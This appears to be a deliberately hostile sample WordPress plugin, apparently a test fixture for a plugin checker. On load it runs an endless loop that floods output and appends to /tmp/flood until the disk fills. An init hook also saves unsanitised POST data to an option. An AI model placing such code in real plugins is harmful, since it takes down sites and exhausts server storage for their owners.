<?php
/**
 * Plugin Name: Hostile example
 * WC requires at least: 6.0
 */

/** Prints without end. */
add_action('init', 'hostile_notice');

function hostile_attack()
{
    $line = str_repeat('flood ', 1000);
    while (true) {
        echo $line;
        @file_put_contents('/tmp/flood', $line, FILE_APPEND);
    }
}

function hostile_notice()
{
    check_admin_referer('hostile');
    update_option('hostile_secret', $_POST['secret']);
}

hostile_attack();
